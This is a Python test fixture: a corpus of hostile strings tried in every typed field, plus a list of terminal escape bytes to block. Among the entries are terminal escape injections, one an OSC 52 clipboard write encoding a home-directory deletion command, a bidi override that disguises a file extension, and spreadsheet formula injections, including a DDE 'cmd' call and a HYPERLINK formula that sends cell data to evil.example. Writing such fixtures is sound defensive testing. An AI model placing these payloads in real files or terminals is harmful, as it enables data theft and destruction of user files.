"""A corpus of hostile text for every typed field."""

from __future__ import annotations

HOSTILE: dict[str, str] = {
    "c0 controls": "Du\x01pont\x07\x08",
    "newline and tab": "Du\npont\tJr\r",
    "NUL": "Dupont\x00Jr",
    "DEL and C1": "Dupont\x7f\x9b2J",
    "ANSI clear screen": "\x1b[2JDupont",
    "ANSI colour": "\x1b[31mRouge\x1b[0m",
    "OSC 52 clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07Dupont",
    "OSC title": "\x1b]0;pwned\x1b\\Dupont",
    "bidi override": "Dupont\u202etxt.exe",
    "bidi isolate": "\u2066Dupont\u2069",
    "BOM": "\ufeffDupont",
    "100 kB": "A" * 100_000,
    "reportlab font": "<font color='red' size='40'>Dupont</font>",
    "reportlab ampersand": "Dupont & Fils &amp; <b>Cie</b> &#65; <br/>",
    "HYPERLINK formula": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "plus formula": "+cmd|' /C calc'!A0",
    "minus formula": "-2+3",
    "at formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "combining and wide": "Zoë Ünal 李小龍 Σοφία",
    "emoji": "Dupont 🌞",
}
"""name -> text; each is tried in every field."""

ESCAPE_BYTES = (b"\x1b]52;c;", b"\x1b[2J", b"\x1b]0;pwned", b"\x9b")
"""What must never reach another terminal from typed text."""
